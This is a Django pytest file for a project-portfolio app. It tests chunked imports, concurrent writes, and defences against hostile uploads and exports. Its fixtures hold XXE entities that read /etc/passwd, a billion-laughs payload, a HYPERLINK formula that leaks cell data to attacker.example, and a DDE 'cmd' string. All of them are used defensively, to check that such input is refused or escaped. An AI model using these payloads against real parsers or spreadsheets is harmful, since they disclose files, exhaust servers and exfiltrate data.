"""Imports that others can work beside, files that cannot attack the server, exports that
cannot attack the reader (issue 10: items 8, 11 and 12)."""

import csv
import datetime
import io
import threading
import time
import zipfile
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import CommandError, call_command
from django.db import IntegrityError, connection, transaction
from django.urls import reverse
from django.utils import timezone

from corridor.accounts.models import User
from corridor.core.models import AuditEntry
from corridor.portfolio import iati, import_store
from corridor.portfolio.models import Project, ProjectStatusChange
from corridor.testing.factories import FxRateFactory, ProjectFactory, ProjectPartyFactory

DATA = Path(__file__).parent / "data"


@pytest.fixture
def sgd_rate(db):
    return FxRateFactory(currency="SGD", date=datetime.date(2021, 1, 1), usd_per_unit="0.74")


@pytest.fixture
def one_row_per_chunk(monkeypatch):
    monkeypatch.setattr(import_store, "WRITE_CHUNK", 1)
    monkeypatch.setattr(import_store, "SQLITE_PAUSE", 0)


def good_file() -> bytes:
    return (DATA / "projects_good.csv").read_bytes()


def many_rows(count: int, prefix: str = "MANY") -> bytes:
    lines = ["external_id,title_en,kind,sector,value,currency,signed_on,parent_external_id"]
    for i in range(count):
        parent = f"{prefix}-0" if i and i % 10 == 0 else ""
        lines.append(f"{prefix}-{i},Project {i},commercial,ict,{1000 + i},USD,2022-01-01,{parent}")
    return "\n".join(lines).encode()


# --- 8. bulk writes in short transactions, all rows or none ------------------------------------


def test_rows_written_chunk_by_chunk_give_the_same_projects(
    owner, enterprise, other_enterprise, sgd_rate, one_row_per_chunk
):
    seen = []

    report = import_store.run_import(
        actor=owner,
        name="good.csv",
        content=good_file(),
        progress=lambda status, done, total: seen.append((status, done)),
    )

    assert report.errors == []
    assert (report.created, report.updated, report.unchanged) == (3, 0, 0)
    framework = Project.objects.get(external_id="FW-1")
    warehouse = Project.objects.get(external_id="SUB-1")
    assert warehouse.parent == framework
    assert framework.value_usd == Decimal("740000000.00")
    assert framework.fx_rate == sgd_rate
    assert framework.lead_side == Project.Side.CHINA
    assert warehouse.counted_value_usd == Decimal("0.00")  # counted in its framework agreement
    assert framework.status_changes.get().to_status == "signed"
    assert warehouse.status_changes.get().on == datetime.date(2022, 1, 15)
    assert sorted(p.role for p in framework.parties.all()) == ["counterpart", "initiator"]
    entry = AuditEntry.objects.get(target_id=str(framework.pk))
    assert (entry.action, entry.actor, entry.summary) == ("import", owner, framework.title_en)
    assert entry.changes["external_id"] == [None, "FW-1"]
    # Progress is recorded after every chunk: one row per chunk here.
    assert [done for status, done in seen if status == "writing"] == [0, 1, 2, 3]


def test_importing_again_updates_in_bulk_and_keeps_what_did_not_change(
    owner, enterprise, other_enterprise, sgd_rate, one_row_per_chunk
):
    import_store.run_import(actor=owner, name="good.csv", content=good_file())
    changed = good_file().replace(b"Cold-chain warehouse", b"Cold-chain warehouse phase 2")
    changed = changed.replace(b"2500000,USD", b"3000000,USD")

    report = import_store.run_import(actor=owner, name="good.csv", content=changed)

    assert (report.created, report.updated, report.unchanged) == (0, 1, 2)
    warehouse = Project.objects.get(external_id="SUB-1")
    assert warehouse.title_en == "Cold-chain warehouse phase 2"
    assert warehouse.value_usd == Decimal("3000000.00")
    entry = AuditEntry.objects.filter(target_id=str(warehouse.pk)).first()
    assert entry.changes["title_en"] == ["Cold-chain warehouse", "Cold-chain warehouse phase 2"]
    assert Project.objects.count() == 3


def test_a_chunk_that_fails_undoes_the_chunks_written_before_it(
    owner, enterprise, other_enterprise, sgd_rate, one_row_per_chunk, monkeypatch
):
    existing = ProjectFactory(  # not published: the member's import changes it directly
        external_id="P-3",
        title_en="Before the import",
        owner=enterprise,
        status="completed",
        is_published=False,
    )
    ProjectPartyFactory(project=existing, organisation=other_enterprise, role="investor")
    changed = (
        good_file()
        .replace(b"P-3,,", b"P-3,After the import,")
        .replace(b"2023-07-01,,,,,false", b"2023-07-01,,,Motorway Group:counterpart,,false")
    )
    before = {
        "status_changes": ProjectStatusChange.objects.count(),
        "audit": AuditEntry.objects.count(),
    }
    applied = import_store._Writer._apply
    calls = []

    def fails_third_time(self, batch):
        calls.append(batch)
        if len(calls) == 3:
            raise IntegrityError("UNIQUE constraint failed: portfolio_project.external_id")
        applied(self, batch)

    monkeypatch.setattr(import_store._Writer, "_apply", fails_third_time)

    report = import_store.run_import(actor=owner, name="good.csv", content=changed)

    assert "nothing was written" in report.errors[0].message
    assert (report.created, report.updated, report.unchanged) == (0, 0, 0)
    assert list(Project.objects.values_list("external_id", flat=True)) == ["P-3"]
    existing.refresh_from_db()
    assert (existing.title_en, existing.status) == ("Before the import", "completed")
    assert [(p.organisation, p.role) for p in existing.parties.all()] == [
        (other_enterprise, "investor")
    ]
    assert ProjectStatusChange.objects.count() == before["status_changes"]
    assert AuditEntry.objects.count() == before["audit"]


def test_a_project_changed_by_someone_else_during_the_import_refuses_it(
    owner, enterprise, sgd_rate, one_row_per_chunk, monkeypatch
):
    existing = ProjectFactory(
        external_id="P-3", title_en="Before the import", owner=enterprise, is_published=False
    )
    prepare = import_store._Writer._prepare

    def someone_edits_meanwhile(self, chunk):
        batch = prepare(self, chunk)
        Project.objects.filter(pk=existing.pk).update(
            title_en="Someone else's edit", updated_at=timezone.now()
        )
        return batch

    monkeypatch.setattr(import_store._Writer, "_prepare", someone_edits_meanwhile)
    content = b"external_id,title_en,kind,sector\nP-3,From the file,commercial,ict\n"

    report = import_store.run_import(actor=owner, name="p.csv", content=content)

    assert "changed or deleted by someone else" in report.errors[0].message
    existing.refresh_from_db()
    assert existing.title_en == "Someone else's edit"


@pytest.mark.django_db(transaction=True)
def test_others_can_write_while_a_large_import_runs(owner, monkeypatch):
    """Before, the import wrote every row in one transaction: on SQLite, any other write (a
    login) waited for it and failed with "database is locked" after 5 s."""
    monkeypatch.setattr(import_store, "WRITE_CHUNK", 100)
    writing = threading.Event()
    outcome = {}

    def run_import():
        try:
            outcome["report"] = import_store.run_import(
                actor=owner,
                name="many.csv",
                content=many_rows(1500),
                progress=lambda status, done, total: status == "writing" and writing.set(),
            )
        except Exception as exc:  # reported below
            outcome["error"] = exc
        finally:
            connection.close()

    worker = threading.Thread(target=run_import)
    worker.start()
    waits, failures, while_writing = [], [], 0
    try:
        while worker.is_alive():
            started = time.perf_counter()
            try:
                with transaction.atomic():
                    User.objects.filter(pk=owner.pk).update(last_login=timezone.now())
            except Exception as exc:
                failures.append(exc)
            waits.append(time.perf_counter() - started)
            while_writing += writing.is_set() and worker.is_alive()
            time.sleep(0.01)
    finally:
        worker.join()

    assert "error" not in outcome, outcome.get("error")
    assert outcome["report"].errors == []
    assert outcome["report"].created == 1500
    assert while_writing > 0  # some writes happened while the rows were being written
    assert failures == []
    # The bench (bench/imports.py) measures the real figure; here a slow, shared machine
    # must still pass, so the bound is generous, yet well below the 5 s a login used to wait.
    assert max(waits) < 2.5


# --- 11. hostile and broken XLSX and IATI files ------------------------------------------------


def workbook(rows: list[list]) -> bytes:
    book = openpyxl.Workbook()
    for row in rows:
        book.active.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def with_part(content: bytes, name: str, change) -> bytes:
    """The workbook with the XML part `name` changed by `change(text) -> text`."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as source, zipfile.ZipFile(out, "w") as target:
        for item in source.infolist():
            data = source.read(item)
            if item.filename == name:
                data = change(data.decode()).encode()
            target.writestr(item, data)
    return out.getvalue()


GOOD_XLSX_ROWS = [
    ["external_id", "title_en", "kind", "sector"],
    ["X-1", "Data pilot", "g2b", "ict"],
]
SHEET = "xl/worksheets/sheet1.xml"
XXE = '<!DOCTYPE worksheet [<!ENTITY secret SYSTEM "file:///etc/passwd">]>'
LAUGHS = (
    '<!DOCTYPE worksheet [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
    '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]>'
)


def _after_declaration(doctype: str, entity: str = ""):
    def change(text: str) -> str:
        declaration_end = text.index("?>") + 2 if text.startswith("<?xml") else 0
        text = text[:declaration_end] + doctype + text[declaration_end:]
        return text.replace("Data pilot", entity) if entity else text

    return change


HOSTILE_XLSX = {
    "external entity": with_part(
        workbook(GOOD_XLSX_ROWS), SHEET, _after_declaration(XXE, "&secret;")
    ),
    "billion laughs": with_part(workbook(GOOD_XLSX_ROWS), SHEET, _after_declaration(LAUGHS, "&d;")),
    "document type in the workbook part": with_part(
        workbook(GOOD_XLSX_ROWS), "xl/workbook.xml", _after_declaration("<!DOCTYPE workbook>")
    ),
}
REFUSED = "contains a document type or entity declaration"


@pytest.mark.parametrize("kind", sorted(HOSTILE_XLSX))
def test_a_workbook_with_a_dtd_or_entities_is_refused(owner, kind):
    report = import_store.run_import(actor=owner, name="p.xlsx", content=HOSTILE_XLSX[kind])

    assert [e.message for e in report.errors if REFUSED in e.message], report.errors
    assert Project.objects.count() == 0


def test_a_workbook_with_corrupt_sheet_xml_is_refused(owner):
    content = with_part(
        workbook(GOOD_XLSX_ROWS), SHEET, lambda text: text.replace("</sheetData>", "<row")
    )

    report = import_store.run_import(actor=owner, name="p.xlsx", content=content)

    assert len(report.errors) == 1
    assert "The workbook cannot be read" in report.errors[0].message
    assert Project.objects.count() == 0


def test_hostile_workbooks_answer_400_on_the_page_with_the_reason(client, owner):
    client.force_login(owner)

    for name, content in [
        ("xxe.xlsx", HOSTILE_XLSX["external entity"]),
        ("corrupt.xlsx", with_part(workbook(GOOD_XLSX_ROWS), SHEET, lambda t: t[:-40])),
    ]:
        response = client.post(
            reverse("portfolio:import"),
            {"file": SimpleUploadedFile(name, content, "application/octet-stream")},
        )
        assert response.status_code == 400, name
        assert "Nothing was imported" in response.content.decode()
    assert Project.objects.count() == 0


def test_the_command_names_the_refused_workbook(enterprise, tmp_path, capsys):
    path = tmp_path / "laughs.xlsx"
    path.write_bytes(HOSTILE_XLSX["billion laughs"])

    with pytest.raises(CommandError, match="Nothing imported"):
        call_command("portfolio_import", str(path), "--owner", "Qingling Motors")

    assert REFUSED in capsys.readouterr().err


IATI_HEAD = '<?xml version="1.0" encoding="UTF-8"?>\n'
IATI_BODY = """<iati-activities version="2.03">
  <iati-activity xml:lang="en">
    <iati-identifier>XX-TEST-1</iati-identifier>
    <reporting-org ref="XX-TEST" type="10"><narrative>Test</narrative></reporting-org>
    <title><narrative>Port &name; upgrade</narrative></title>
    <activity-status code="2"/>
    <activity-date type="2" iso-date="2016-01-01"/>
  </iati-activity>
</iati-activities>
"""
HOSTILE_IATI = {
    "internal entity": '<!DOCTYPE iati-activities [<!ENTITY name "Corridor">]>',
    "external entity": '<!DOCTYPE iati-activities [<!ENTITY name SYSTEM "file:///etc/hostname">]>',
    "billion laughs": LAUGHS.replace("worksheet", "iati-activities").replace(
        '<!ENTITY d "', '<!ENTITY name "'
    ),
}


@pytest.mark.parametrize("kind", sorted(HOSTILE_IATI))
def test_an_iati_file_with_entities_is_refused_not_imported_without_their_text(
    administration, kind
):
    content = (IATI_HEAD + HOSTILE_IATI[kind] + IATI_BODY).encode()

    with pytest.raises(iati.IatiImportError) as refused:
        iati.import_activities(content, owner=administration)

    assert "declares a document type or entities" in refused.value.message
    assert Project.objects.count() == 0


def test_the_iati_command_prints_why_the_file_is_refused(administration, tmp_path):
    path = tmp_path / "entity.xml"
    path.write_text(IATI_HEAD + HOSTILE_IATI["internal entity"] + IATI_BODY, encoding="utf-8")

    with pytest.raises(CommandError, match="declares a document type or entities"):
        call_command("iati_import", str(path))
    assert Project.objects.count() == 0


# --- 12. formulas in exports, text kept on import ----------------------------------------------


def exported(client) -> list[list[str]]:
    response = client.get(reverse("portfolio:project_export_csv"))
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text)))


def test_the_csv_export_writes_formulas_as_text(client, enterprise):
    ProjectFactory(
        external_id="@SUM(A1)",
        title_en='=HYPERLINK("https://attacker.example/?leak="&A1, "Click")',
        title_zh="\t=1+1",
        location_en="-2+3",
        location_zh="+cmd|' /C calc'!A0",
        owner=enterprise,
        value=Decimal("1250.50"),
    )

    header, row = exported(client)
    cells = dict(zip(header, row, strict=True))

    assert cells["external id"] == "'@SUM(A1)"
    assert cells["title (English)"] == '\'=HYPERLINK("https://attacker.example/?leak="&A1, "Click")'
    assert cells["title (Chinese)"] == "'\t=1+1"
    assert cells["location"] == "'-2+3"
    assert cells["value"] == "1250.50"  # a number stays a number


def test_a_leading_tab_is_kept_on_import_and_escaped_on_export(client, owner, enterprise):
    content = "external_id,title_en,title_zh,kind,sector\nT-1,\t=1+1, 标题,commercial,ict\n"

    report = import_store.run_import(actor=owner, name="t.csv", content=content.encode())

    assert report.errors == []
    project = Project.objects.get(external_id="T-1")
    assert project.title_en == "\t=1+1"  # as the person wrote it
    assert project.title_zh == "标题"  # spaces around text are still trimmed
    Project.objects.filter(pk=project.pk).update(is_published=True)
    header, row = exported(client)
    assert dict(zip(header, row, strict=True))["title (English)"] == "'\t=1+1"


def test_the_templates_carry_no_formula(client, db):
    content = client.get(reverse("portfolio:import_template", args=["xlsx"])).content
    book = openpyxl.load_workbook(io.BytesIO(content))
    for sheet in book.worksheets:
        for row in sheet.iter_rows(values_only=True):
            for value in row:
                assert not (isinstance(value, str) and value.startswith("=")), value


def test_an_import_that_changes_a_project_raises_its_version(owner, enterprise, sgd_rate):
    """Someone editing the project on its page from the version before the import is told
    that it changed, instead of silently overwriting the imported values."""
    existing = ProjectFactory(
        external_id="P-9", title_en="Before the import", owner=enterprise, is_published=False
    )
    content = b"external_id,title_en,kind,sector\nP-9,From the file,commercial,ict\n"

    report = import_store.run_import(actor=owner, name="p.csv", content=content)

    assert report.errors == [] and report.updated == 1
    before = existing.version
    existing.refresh_from_db()
    assert (existing.title_en, existing.version) == ("From the file", before + 1)
